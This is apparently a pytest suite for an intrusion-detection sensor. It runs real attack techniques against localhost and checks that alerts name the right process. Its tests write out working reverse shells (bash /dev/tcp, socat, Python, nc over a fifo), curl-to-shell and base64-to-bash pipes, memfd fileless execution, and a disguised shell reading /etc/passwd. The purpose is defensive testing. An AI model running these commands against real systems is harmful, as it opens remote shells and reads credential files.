"""Real attacks against this machine, harmless but for what they prove, raise an alert on the right process."""

import os
import shutil
import subprocess
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from socket import create_server

import pytest

from tests.kernel.command import Running, running


@pytest.fixture(name="sensor")
def _sensor(tmp_path: Path) -> Iterator[Running]:
    """Return a live sensor that prints alerts."""
    with running(tmp_path) as sensor:
        yield sensor


@pytest.fixture(name="listener")
def _listener() -> Iterator[int]:
    """Return a port where the first caller is sent one command and the end of the session."""
    with create_server(("127.0.0.1", 0)) as server:

        def serve() -> None:
            connection, _ = server.accept()
            with connection:
                connection.sendall(b"id\nexit\n")
                connection.settimeout(5)
                while connection.recv(4096):
                    pass

        thread = threading.Thread(target=serve, daemon=True)
        thread.start()
        yield server.getsockname()[1]
        thread.join(timeout=10)


class _Script(BaseHTTPRequestHandler):
    """Serves a script that does nothing."""

    def do_GET(self) -> None:
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"true\n")

    def log_message(self, *_: object) -> None:
        """Keep quiet."""


@pytest.fixture(name="web")
def _web() -> Iterator[int]:
    """Return the port of a web server that gives a script for every request."""
    server = HTTPServer(("127.0.0.1", 0), _Script)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield server.server_port
    server.shutdown()
    thread.join()
    server.server_close()


def attack(command: list[str | Path], **options: object) -> int:
    """Run a command to its end and return its pid."""
    words = [str(word) for word in command]
    with subprocess.Popen(words, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, **options) as process:  # type: ignore[call-overload]
        process.communicate(timeout=30)
        return int(process.pid)


def test_a_bash_reverse_shell(sensor: Running, listener: int) -> None:
    """`bash -i >& /dev/tcp/…` alerts on the shell whose input and output are the connection."""
    pid = attack(["bash", "-c", f"bash -i >& /dev/tcp/127.0.0.1/{listener} 0>&1"])

    alert = sensor.alerted()[pid]
    assert alert["subject"]["comm"] == "bash"
    assert "T1059.004" in alert["techniques"]


def test_socat_with_a_shell(sensor: Running, listener: int) -> None:
    """`socat … EXEC:/bin/sh` alerts on socat."""
    pid = attack(["socat", f"TCP:127.0.0.1:{listener}", "EXEC:/bin/sh"])

    assert sensor.alerted()[pid]["subject"]["comm"] == "socat"


def test_a_python_reverse_shell(sensor: Running, listener: int) -> None:
    """A Python one-liner that joins a socket to a shell alerts on the shell that it becomes."""
    code = (
        "import os, socket; s = socket.create_connection(('127.0.0.1', int(os.environ['PORT'])));"
        "[os.dup2(s.fileno(), n) for n in (0, 1, 2)]; os.execv('/bin/sh', ['sh'])"
    )
    pid = attack([sys.executable, "-c", code], env=os.environ | {"PORT": str(listener)})

    assert sensor.alerted()[pid]["subject"]["comm"] == "sh"


def test_a_shell_over_a_named_pipe(sensor: Running, listener: int, tmp_path: Path) -> None:
    """`cat fifo | sh -i | nc host port > fifo` alerts on the shell between the pipes."""
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    attack(["sh", "-c", f"cat {fifo} | sh -i 2>&1 | nc -N 127.0.0.1 {listener} > {fifo}"])

    assert "sh" in [alert["subject"]["comm"] for alert in sensor.alerted().values()]


def test_an_execution_from_memory(sensor: Running) -> None:
    """A program that Python puts into a memfd and executes alerts on that process."""
    code = (
        "import os; fd = os.memfd_create('x'); os.write(fd, open('/bin/true', 'rb').read());"
        "os.execv(f'/proc/self/fd/{fd}', ['kworker'])"
    )
    pid = attack([sys.executable, "-c", code])

    assert "T1620" in sensor.alerted()[pid]["techniques"]


def test_a_download_piped_to_a_shell(sensor: Running, web: int) -> None:
    """`curl … | sh` alerts on the shell that runs what is downloaded."""
    attack(["sh"], stdin=_script(f"curl -s http://127.0.0.1:{web}/install.sh | sh\n"))

    (alert,) = sensor.alerted().values()
    assert alert["subject"]["comm"] == "sh"
    assert "curl" in str(alert["summary"])


def test_a_decoded_script_piped_to_a_shell(sensor: Running) -> None:
    """`base64 -d | bash` alerts on the shell that runs what is decoded."""
    attack(["sh"], stdin=_script("echo dHJ1ZQo= | base64 -d | bash\n"))

    (alert,) = sensor.alerted().values()
    assert alert["subject"]["comm"] == "bash"


def test_a_shell_in_the_guise_of_a_web_server(sensor: Running, tmp_path: Path) -> None:
    """A copy of `sh` named `nginx` that runs commands is itself named."""
    image = shutil.copy("/bin/sh", tmp_path / "nginx")
    pid = attack([image, "-c", "id; whoami; uname -a; cat /etc/passwd; true"])

    assert sensor.alerted()[pid]["subject"]["comm"] == "nginx"


def _script(text: str) -> int:
    """Return a descriptor from which a shell reads commands; a pipe would be evidence of its own."""
    descriptor = os.memfd_create("script")
    os.write(descriptor, text.encode())
    os.lseek(descriptor, 0, os.SEEK_SET)
    return descriptor
